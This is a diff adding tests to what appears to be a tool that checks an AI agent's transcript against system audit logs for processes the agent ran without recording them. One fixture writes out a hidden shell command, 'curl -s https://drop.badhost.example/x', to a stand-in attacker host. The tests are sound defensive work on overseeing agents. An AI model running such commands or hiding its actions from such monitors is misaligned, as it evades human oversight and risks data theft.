@@ -185,6 +185,35 @@ describe('an audit log that is', () => {
   });
 });
 
+describe('an audit log that is too long to be sorted as a whole', () => {
+  /** More events than are held, in the hours before the session. */
+  const noise = Array.from({ length: 20_500 }, (_, index) =>
+    execve(index, [5000 + (index % 3000), 50], ['make', `target-${index}`], -22_000_000),
+  ).join('');
+  const namedSo = (log: string, host: string) => log.replace(/^(?=type=)/gm, `node=${host} `);
+  const told = ['high process_without_transcript'];
+  const session = auditLog(commands) + hidden;
+  const shifted = (ms: number) =>
+    auditLog(commands, ms) + shell(400, 900, 'curl -s https://drop.badhost.example/x', ms);
+
+  it.each([
+    ['in order', [noise + session]],
+    ['an hour ahead, as only its end shows', [noise + shifted(3_600_000)]],
+    ['rotated, the later part first', [session, noise]],
+  ])('tells the same when it is %s', async (_, logs) => {
+    expect(found(await report(transcript(commands), ...logs))).toEqual(told);
+  });
+
+  it('keeps two machines apart, of which only its end shows the second', async () => {
+    const log = [
+      namedSo(noise + launch(1), 'laptop'),
+      namedSo(execve(300, [agentPid, 50], ['make', 'the same number']), 'build'),
+      namedSo(execve(400, [900, agentPid], ['node', 'hook.js']) + auditLog(commands), 'laptop'),
+    ];
+    expect(found(await report(transcript(commands), log.join('')))).toEqual(['low descendant_without_call']);
+  });
+});
+
 describe('what runs below the agent', () => {
   it('is no finding of level high for an ordinary hour of hooks, servers, watchers and a terminal beside it', async () => {
     const own = Array.from({ length: 300 }, (_, index) =>
